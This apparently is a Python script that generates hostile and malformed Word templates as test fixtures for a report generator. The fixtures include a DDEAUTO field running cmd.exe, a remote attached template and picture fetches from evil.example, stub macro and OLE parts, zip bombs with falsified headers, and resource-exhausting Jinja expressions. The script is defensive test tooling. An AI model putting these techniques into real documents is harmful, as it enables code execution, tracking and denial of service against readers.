"""Build the hostile and broken templates the tests feed to ``--template``.

Each file in tests/writers/docx/templates/ is templates/report.docx with one thing wrong or one
thing a template must not carry (macros, links to outside files, embedded objects, bad fields,
broken XML, a zip bomb), or a file that is not a .docx at all. They are small, and built the same
every time, so they are checked in; this script is how they were made.

Run: ``.venv/bin/python tools/make_bad_templates.py``
"""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
SOURCE = ROOT / "reportgen" / "templates" / "report.docx"
OUT = ROOT / "tests" / "writers" / "docx" / "templates"

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS = "http://schemas.microsoft.com/office/2006/relationships/"
DOCUMENT_RELS = "word/_rels/document.xml.rels"
SETTINGS_RELS = "word/_rels/settings.xml.rels"
TYPES = "[Content_Types].xml"
ZIP_TIME = (1980, 1, 1, 0, 0, 0)

Parts = dict[str, bytes]


def source_parts() -> Parts:
    """The parts of templates/report.docx."""
    with zipfile.ZipFile(SOURCE) as package:
        return {name: package.read(name) for name in package.namelist()}


def write_zip(path: Path, parts: Parts) -> None:
    """``parts`` as a zip at ``path``, with fixed times: the same parts, the same bytes."""
    with zipfile.ZipFile(path, "w") as package:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            package.writestr(info, data)


def relate(parts: Parts, rels: str, rid: str, kind: str, target: str, external: bool) -> None:
    """Add a relationship to the relationships part ``rels`` (made if missing)."""
    mode = ' TargetMode="External"' if external else ""
    line = f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'
    if rels not in parts:
        parts[rels] = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
            b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        )
    parts[rels] = parts[rels].replace(b"</Relationships>", line.encode() + b"</Relationships>")


def add_type(parts: Parts, part: str, content_type: str) -> None:
    """Give ``part`` a content type override."""
    line = f'<Override PartName="/{part}" ContentType="{content_type}"/>'
    parts[TYPES] = parts[TYPES].replace(b"</Types>", line.encode() + b"</Types>")


def in_body(parts: Parts, xml: str) -> None:
    """Put ``xml`` (paragraphs) at the start of the document's body."""
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:body>", b"<w:body>" + xml.encode(), 1
    )


def main_type(parts: Parts, content_type: str) -> None:
    """Make the main document part of type ``content_type``."""
    parts[TYPES] = parts[TYPES].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        content_type.encode(),
    )


def macros(parts: Parts) -> None:
    """A macro project and its data, related from the main document."""
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 not really a VBA project"
    parts["word/vbaData.xml"] = b'<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="x"/>'
    relate(parts, DOCUMENT_RELS, "rId90", MS + "vbaProject", "vbaProject.bin", False)
    relate(
        parts, "word/_rels/vbaProject.bin.rels", "rId1", MS + "wordVbaData", "vbaData.xml", False
    )
    add_type(parts, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    add_type(parts, "word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")


def docm(parts: Parts) -> None:
    """A macro-enabled document (.docm)."""
    macros(parts)
    main_type(parts, "application/vnd.ms-word.document.macroEnabled.main+xml")


def spreadsheet(parts: Parts) -> None:
    """A package whose main part says it is an Excel workbook's, not a Word document's."""
    main_type(parts, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")


def dotx(parts: Parts) -> None:
    """A Word template (.dotx)."""
    main_type(
        parts, "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    )


def stripped(parts: Parts) -> None:
    """What reportgen strips: macros, an attached template, a mail merge; and a hyperlink."""
    macros(parts)
    relate(
        parts, SETTINGS_RELS, "rId1", RT + "attachedTemplate", "https://evil.example/t.dotm", True
    )
    relate(parts, SETTINGS_RELS, "rId2", RT + "mailMergeSource", "file:///C:/data.xlsx", True)
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom",
        b'<w:attachedTemplate r:id="rId1"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
        b'<w:dataSource r:id="rId2"/></w:mailMerge><w:zoom',
        1,
    )
    if b"xmlns:r=" not in parts["word/settings.xml"].split(b">", 2)[1]:
        parts["word/settings.xml"] = parts["word/settings.xml"].replace(
            b"<w:settings ", f'<w:settings xmlns:r="{RT[:-1]}" '.encode(), 1
        )
    relate(parts, DOCUMENT_RELS, "rId91", RT + "hyperlink", "https://council.example/", True)
    in_body(
        parts,
        '<w:p><w:hyperlink r:id="rId91"><w:r><w:t>The council</w:t></w:r></w:hyperlink></w:p>',
    )


def linked_picture(parts: Parts) -> None:
    """A picture linked to a file on a web server (fetched on opening)."""
    relate(parts, DOCUMENT_RELS, "rId92", RT + "image", "https://evil.example/logo.png", True)


def ole(parts: Parts) -> None:
    """An embedded OLE object."""
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 an object"
    relate(parts, DOCUMENT_RELS, "rId93", RT + "oleObject", "embeddings/oleObject1.bin", False)
    add_type(
        parts,
        "word/embeddings/oleObject1.bin",
        "application/vnd.openxmlformats-officedocument.oleObject",
    )


def activex(parts: Parts) -> None:
    """An ActiveX control."""
    parts["word/activeX/activeX1.xml"] = b'<?xml version="1.0"?><ax:ocx xmlns:ax="x"/>'
    relate(parts, DOCUMENT_RELS, "rId94", RT + "control", "activeX/activeX1.xml", False)
    add_type(parts, "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")


def alt_chunk(parts: Parts) -> None:
    """Imported HTML (altChunk)."""
    parts["word/afchunk.htm"] = b"<html><body><img src='https://evil.example/x.png'></body></html>"
    relate(parts, DOCUMENT_RELS, "rId95", RT + "aFChunk", "afchunk.htm", False)
    add_type(parts, "word/afchunk.htm", "text/html")
    in_body(parts, '<w:altChunk r:id="rId95"/>')


def dde(parts: Parts) -> None:
    """A DDEAUTO field, as complex field characters split over runs."""
    in_body(
        parts,
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        ' DDE</w:instrText></w:r><w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\'
        'system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    )


def include_picture(parts: Parts) -> None:
    """An INCLUDEPICTURE field fetching a picture from a web server."""
    in_body(
        parts,
        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://evil.example/t.png&quot; \\d ">'
        "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>",
    )


def field_text(text: str) -> Callable[[Parts], None]:
    """A paragraph with ``text`` in the document body."""
    return lambda parts: in_body(
        parts, f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'
    )


def split_field(parts: Parts) -> None:
    """A field Word split across runs (as it does after an edit or a spell check)."""
    in_body(
        parts,
        '<w:p><w:r><w:t xml:space="preserve">Ref: {</w:t></w:r><w:r><w:t>{ refer</w:t></w:r>'
        '<w:r><w:rPr><w:b/></w:rPr><w:t xml:space="preserve">ence }} (bold after)</w:t></w:r>'
        "</w:p>",
    )


def broken(part: str) -> Callable[[Parts], None]:
    """``part`` cut off in the middle."""

    def cut(parts: Parts) -> None:
        parts[part] = parts[part][: len(parts[part]) // 2]

    return cut


def missing(part: str) -> Callable[[Parts], None]:
    """``part`` left out."""

    def leave_out(parts: Parts) -> None:
        del parts[part]

    return leave_out


def bomb(parts: Parts) -> None:
    """A part that inflates to 60 MB (of zeros) from about 60 kB."""
    parts["word/styles.xml"] = b"<" + b"\0" * (60 << 20)


def lying_bomb(path: Path, part: str = "word/styles.xml") -> None:
    """Make ``part`` say it holds 1 kB though it inflates to 60 MB: both its headers lie."""
    data = bytearray(path.read_bytes())
    # (signature, where the name starts, where the uncompressed size is), from the header's start
    for signature, name_at, size_at in ((b"PK\x03\x04", 30, 22), (b"PK\x01\x02", 46, 24)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            if data[start + name_at : start + name_at + len(part)] == part.encode():
                struct.pack_into("<I", data, start + size_at, 1024)
            start += 4
    path.write_bytes(bytes(data))


def encrypted_entry(path: Path) -> None:
    """Set the 'encrypted' flag of every entry, as a zip made with a password has."""
    data = bytearray(path.read_bytes())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            flags = struct.unpack_from("<H", data, start + offset)[0]
            struct.pack_into("<H", data, start + offset, flags | 1)
            start += 4
    path.write_bytes(bytes(data))


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ZIPPED: dict[str, Callable[[Parts], None]] = {
    "macro.docm": docm,
    "house.dotx": dotx,
    "spreadsheet.docx": spreadsheet,
    "stripped.docx": stripped,
    "linked-picture.docx": linked_picture,
    "ole-object.docx": ole,
    "activex.docx": activex,
    "alt-chunk.docx": alt_chunk,
    "dde.docx": dde,
    "include-picture.docx": include_picture,
    "split-field.docx": split_field,
    "jinja-loop.docx": field_text(
        "{% for a in range(100000) %}{% for b in range(100000) %}{{ title }}"
        "{% endfor %}{% endfor %}"
    ),
    "jinja-power.docx": field_text("{{ 9 ** 9 ** 9 }}"),
    "jinja-bad.docx": field_text("{{ title | }}"),
    "jinja-unclosed.docx": field_text("{{ title"),
    "jinja-unknown.docx": field_text("{{ chief_executive }}"),
    "jinja-filter.docx": field_text("{{ committee | upper }}"),
    "broken-document.docx": broken("word/document.xml"),
    "broken-styles.docx": broken("word/styles.xml"),
    "broken-numbering.docx": broken("word/numbering.xml"),
    "no-document.docx": missing("word/document.xml"),
    "no-content-types.docx": missing(TYPES),
    "bomb.docx": bomb,
}
"""Templates made from report.docx, by what is done to its parts."""


def main() -> None:
    """Write every fixture."""
    OUT.mkdir(parents=True, exist_ok=True)
    for name, change in ZIPPED.items():
        parts = source_parts()
        change(parts)
        write_zip(OUT / name, parts)
    write_zip(
        OUT / "lying-bomb.docx", {**source_parts(), "word/styles.xml": b"<" + b"\0" * (60 << 20)}
    )
    lying_bomb(OUT / "lying-bomb.docx")
    write_zip(OUT / "encrypted-entries.docx", source_parts())
    encrypted_entry(OUT / "encrypted-entries.docx")
    (OUT / "empty.docx").write_bytes(b"")
    (OUT / "not-a-zip.docx").write_text("This is a letter, not a Word document.\n")
    # an encrypted Office file is an OLE compound file holding an EncryptionInfo stream; the
    # header and the stream's name (in the directory, UTF-16) are what is looked for
    stub = OLE + bytes(504) + "EncryptionInfo".encode("utf-16-le") + bytes(100)
    (OUT / "password.docx").write_bytes(stub)
    (OUT / "old-word.doc").write_bytes(OLE + bytes(504) + "WordDocument".encode("utf-16-le"))


if __name__ == "__main__":
    main()
